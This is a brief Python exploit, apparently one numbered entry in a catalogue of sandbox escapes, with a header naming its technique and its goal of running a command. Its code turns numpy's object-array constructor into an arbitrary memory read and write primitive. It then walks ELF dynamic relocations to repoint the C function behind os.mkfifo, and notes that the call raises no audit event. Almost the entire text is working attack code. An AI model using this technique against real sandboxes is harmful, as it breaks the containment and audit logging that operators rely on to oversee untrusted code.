# escape: 454
# policy-gate: optional; numpy makes objects of any bytes, and the wall holds it
# packages: numpy
# technique: numpy.ndarray(shape, object, buffer): bytes become pointers to objects, one of them a bytearray over all memory; then as 302
# family: memory
# goal: run-command
# first-seen: numpy's array_new, which does not look at the type as frombuffer() does
import os, struct
import numpy as np
P = lambda *a: struct.pack('<%dQ' % len(a), *a)
far = (1 << 63) - 1
fake = P(1 << 28, id(bytearray), far, far, 0, 0, 0)
memory = np.ndarray((1,), object, bytearray(P(id(fake) + 32)))[0]
word = lambda at: int.from_bytes(memory[at:at + 8], 'little')
definition = word(id(os.mkfifo) + 16)               # PyCFunctionObject.m_ml
base = definition & ~0xfff
while memory[base:base + 4] != b'\x7fELF': base -= 0x1000
phoff, phnum = word(base + 32), word(base + 56) & 0xffff
for i in range(phnum):
    at = base + phoff + 56 * i
    if word(at) & 0xffffffff == 2: dynamic = base + word(at + 16) # PT_DYNAMIC
tags = {}
for at in range(dynamic, dynamic + 3200, 16):
    if word(at) == 0: break
    tags[word(at)] = word(at + 8)
rela, size = tags[7], tags[8]
if rela < base: rela += base
for at in range(rela, rela + size, 24):
    if word(at) == definition + 8 - base:
        memory[definition + 8:definition + 16] = P(base + word(at + 16))
        break
try: os.mkfifo('/tmp')    # no audit event either
except FileExistsError: print('ESCAPED: the kernel answers mkfifo(3)')
